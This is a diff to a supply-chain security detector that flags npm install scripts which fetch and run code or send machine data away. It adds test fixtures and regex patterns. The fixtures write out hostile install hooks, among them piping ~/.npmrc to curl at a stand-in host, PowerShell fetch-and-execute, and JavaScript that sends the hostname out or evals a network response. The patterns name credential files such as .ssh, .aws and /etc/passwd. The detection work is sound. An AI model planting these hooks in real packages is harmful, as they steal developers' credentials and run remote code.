@@ -1,3 +1,4 @@
+# ruff: noqa: E501 (examples on the card and patterns of words read best as one line)
 """Install script of a package that downloads and runs a program, decodes one, or sends data away.
 
 ## Why it matters
@@ -23,11 +24,14 @@ without running it, is not reported.
 from __future__ import annotations
 
 import json
+import posixpath
 from collections.abc import Iterator
 
 from sentinel.analysis.launch.scripts import runs_what_it_decodes, runs_what_it_fetches, sends_away
 from sentinel.analysis.text import escaped
 from sentinel.detectors.supply_chain._launching import HIGH, script
+from sentinel.model.document import Role, Span
+from sentinel.model.expression import expression
 from sentinel.model.package import Launch
 from sentinel.model.rule import Confidence, Example, Item, Match, Severity, Workspace, rule
 
@@ -55,6 +59,20 @@ _FILE = "package.json"
         Example(_package("postinstall", "cat ~/.npmrc | curl -d @- https://in.example.org"), (2,), "packages/a/package.json"),
         Example(_package("preinstall", 'powershell -Command "iwr https://get.example.org/p.ps1 | iex"'), (2,), _FILE),
         Example(
+            _package("preinstall", "node setup.js"),
+            (2,),
+            _FILE,
+            others=(("setup.js", "require('https').get('https://in.example.org/c?h=' + os.hostname());\n"),),
+        ),
+        Example(
+            _package("postinstall", "node lib/get"),
+            (2,),
+            _FILE,
+            others=(
+                ("lib/get.js", "https.get(URL, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => exec(d)); });\n"),
+            ),
+        ),
+        Example(
             _package(
                 "postinstall",
                 "node -e \"require('https').get('https://get.example.org/x', r => r.on('data', d => eval(d.toString())))\"",
@@ -67,6 +85,16 @@ _FILE = "package.json"
         Example(_package("prepare", "husky"), path=_FILE),
         Example(_package("postinstall", "node scripts/postinstall.js"), path=_FILE),
         Example(_package("prepare", "npm run build"), path=_FILE),
+        Example(
+            _package("postinstall", "node install.js"),
+            path=_FILE,
+            others=(
+                (
+                    "install.js",
+                    "https.get(URL, r => r.pipe(fs.createWriteStream(FILE)));\nexecFileSync(FILE, ['--version'], process.env);\n",
+                ),
+            ),
+        ),
         Example(_package("install", "node-gyp rebuild"), path=_FILE),
         Example(_package("postinstall", "patch-package"), path=_FILE),
         Example(_package("preinstall", "npx only-allow pnpm"), path=_FILE),
@@ -91,4 +119,45 @@ def check(launch: Launch, workspace: Workspace) -> Iterator[Match]:
             yield Match(
                 span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
             )
+            return
+    yield from _of_file(launch, text, span, workspace)
+
+
+_NAMED = expression(
+    r"(?:^|[;&|]\s*)(?:node|bun|deno run|tsx|ts-node)\s+(?:-\w+\s+|--[\w-]+\s+)*[\"']?(?P<file>(?:\./)?[\w./-]{1,120}?)[\"']?\s*(?:$|[;&|])"
+)
+_ASKS = expression(
+    rb"\bhttps?(?:['\"]\))?\.(?:get|request)\s*\(|(?<![\w.])fetch\s*\(|\baxios\b|\bdns\.(?:resolve\w*|lookup)\s*\(|\bgot\s*\(|\bnet\.(?:connect|createConnection)\s*\("
+)
+_TELLS = expression(
+    rb"\bos\.(?:hostname|userInfo|networkInterfaces)\s*\(|['\"`/]\.(?:npmrc|ssh|aws|netrc|git-credentials|docker/config)|/etc/passwd|"
+    rb"\bJSON\.stringify\(\s*process\.env\s*[,)]|\.\.\.process\.env\b|\b(?:entries|keys)\(\s*process\.env\s*\)"
+)
+_RUNS_TEXT = expression(
+    rb"\bon\(\s*['\"]end['\"][^;]{0,80}?\b(?:exec|execSync|eval|Function)\s*\(\s*(?!['\"`])[\w.]|(?<![\w.])eval\s*\(\s*(?!['\"`])[\w.]|\bnew Function\s*\(\s*(?!['\"`])\w"
+)
+
+
+def _of_file(launch: Launch, text: str, span: Span, workspace: Workspace) -> Iterator[Match]:
+    """A file of the package that the event runs, where it tells of the machine, or runs what it is answered."""
+    named = _NAMED.search(text)
+    if named is None:
+        return
+    folder = launch.span.path.rpartition("/")[0]
+    path = posixpath.normpath(posixpath.join(folder, named["file"]))
+    document = next(filter(None, (workspace.read(path + end) for end in ("", ".js", ".cjs", ".mjs", "/index.js"))), None)
+    if document is None or document.has_role(Role.MINIFIED) or not document.first(_ASKS):
+        return
+    for sign, what in (
+        (_TELLS, "asks the network and reads what tells of the machine or its user"),
+        (_RUNS_TEXT, "runs what the network answers"),
+    ):
+        found = document.first(sign)
+        if found is not None:
+            yield Match(
+                span,
+                f"Installing the package runs `{escaped(launch.name, 30)}`, whose file `{escaped(path, 80)}` {what}.",
+                identity=f"{launch.name}|{what}",
+                confidence=Confidence.MEDIUM,
+            ).with_related(document.line_span(document.line_of(found.start())), what)
             return
